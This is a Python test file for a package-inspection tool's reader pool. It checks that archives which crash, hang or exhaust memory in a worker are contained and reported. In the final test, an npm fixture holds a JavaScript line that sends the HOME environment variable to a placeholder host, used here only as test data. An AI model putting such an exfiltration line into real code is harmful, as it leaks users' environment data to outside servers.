"""The reader pool: an archive that ends its worker costs itself and nothing else."""

import asyncio
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import msgspec
import pytest

from customhouse.archives.stream import DEFAULT_LIMITS
from customhouse.engine import readers
from customhouse.engine.readers import OpenedArchive, ReaderPool, decode_tree, read_encoded
from customhouse.model.errors import HostileUpstream
from simulator import npm_tarball

GOOD = npm_tarball({"index.js": "module.exports = 1\n"}, {"name": "good", "version": "1.0.0"})


def _dies_on_the_bad_one(data, filename, ecosystem, limits):
    if filename == "bad.tgz":
        os.kill(os.getpid(), signal.SIGKILL)
    return read_encoded(data, filename, ecosystem, limits)


def _sleeps_on_the_bad_one(data, filename, ecosystem, limits):
    if filename == "bad.tgz":
        time.sleep(60)
    return read_encoded(data, filename, ecosystem, limits)


def _run(pool, *names):
    async def work():
        return await asyncio.gather(*(pool.read(GOOD, name, "npm") for name in names), return_exceptions=True)

    try:
        return asyncio.run(work())
    finally:
        pool.close()


def test_an_archive_is_read_in_a_worker_and_comes_back_whole():
    (encoded,) = _run(ReaderPool(DEFAULT_LIMITS, workers=1), "good.tgz")
    opened = msgspec.msgpack.decode(encoded.opened, type=OpenedArchive)
    assert opened.facts.manifest.name == "good"
    assert {member.path for member in decode_tree(encoded.tree).members} == {"index.js", "package.json"}


@pytest.mark.parametrize("misdeed", [_dies_on_the_bad_one, _sleeps_on_the_bad_one])
def test_what_ends_or_hangs_a_worker_is_told_and_its_neighbours_are_read(monkeypatch, misdeed):
    monkeypatch.setattr(readers, "read_encoded", misdeed)
    monkeypatch.setattr(readers, "READ_TIMEOUT", 2.0)
    names = ["a.tgz", "bad.tgz", "b.tgz", "c.tgz"]
    outcomes = dict(zip(names, _run(ReaderPool(DEFAULT_LIMITS, workers=2), *names), strict=True))
    assert isinstance(outcomes.pop("bad.tgz"), HostileUpstream)
    assert all(isinstance(outcome, readers.EncodedContent) for outcome in outcomes.values())


def _hoards_on_the_bad_one(data, filename, ecosystem, limits):
    if filename == "bad.tgz":
        hoard = []
        while True:
            hoard.append(bytearray(64 << 20))
    return read_encoded(data, filename, ecosystem, limits)


@pytest.mark.skipif(sys.platform != "linux", reason="RLIMIT_DATA counts what is allocated on Linux only")
def test_what_takes_too_much_memory_is_told_and_its_neighbours_are_read(monkeypatch):
    monkeypatch.setattr(readers, "read_encoded", _hoards_on_the_bad_one)
    names = ["a.tgz", "bad.tgz", "b.tgz"]
    outcomes = dict(zip(names, _run(ReaderPool(DEFAULT_LIMITS, workers=1), *names), strict=True))
    bad = outcomes.pop("bad.tgz")
    assert isinstance(bad, HostileUpstream)
    assert "1024 MiB of memory" in bad.message
    assert all(isinstance(outcome, readers.EncodedContent) for outcome in outcomes.values())


def test_no_worker_outlives_its_pool():
    pool = ReaderPool(DEFAULT_LIMITS, workers=2)
    processes = list(pool._pool._processes)
    _run(pool, "good.tgz")
    for pid in processes:
        with pytest.raises(ProcessLookupError):
            os.kill(pid, 0)


def test_workers_end_when_their_parent_is_killed():
    script = (
        "import os, sys, time\n"
        "from customhouse.archives.stream import DEFAULT_LIMITS\n"
        "from customhouse.engine.readers import ReaderPool\n"
        "pool = ReaderPool(DEFAULT_LIMITS, workers=2)\n"
        "print(*pool._pool._processes, flush=True)\n"
        "time.sleep(60)\n"
    )
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    parent = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True, env=environment)
    workers = [int(pid) for pid in parent.stdout.readline().split()]
    parent.kill()
    parent.communicate(timeout=10)
    deadline = time.monotonic() + 10
    while any(_runs(pid) for pid in workers) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert len(workers) == 2
    assert not any(_runs(pid) for pid in workers)


def _runs(pid):
    """Whether a process is there and not merely waiting to be reaped."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except FileNotFoundError:
        return False


def _fails_on_the_bad_one(data, filename, ecosystem, limits):
    if filename == "bad.tgz":
        raise KeyError(filename)
    return read_encoded(data, filename, ecosystem, limits)


def test_a_defect_of_ours_holds_one_archive_and_not_all(monkeypatch):
    monkeypatch.setattr(readers, "read_encoded", _fails_on_the_bad_one)
    good, bad = _run(ReaderPool(DEFAULT_LIMITS, workers=1), "good.tgz", "bad.tgz")
    assert isinstance(good, readers.EncodedContent)
    assert isinstance(bad, HostileUpstream)
    assert "KeyError" in bad.message
    assert "defect of Customhouse" in bad.hint


def test_half_a_character_in_code_is_kept_as_an_escape():
    code = 'require("https").get("https://\\ud800.example.invalid/" + process.env.HOME)\n'
    data = npm_tarball({"index.js": code}, {"name": "half", "version": "1.0.0"})
    (encoded,) = _run(ReaderPool(DEFAULT_LIMITS, workers=1), "half.tgz")
    assert encoded  # the good one, to know that the pool works
    half = read_encoded(data, "half.tgz", "npm", DEFAULT_LIMITS)
    opened = msgspec.msgpack.decode(half.opened, type=OpenedArchive)
    assert opened.facts.manifest.name == "half"
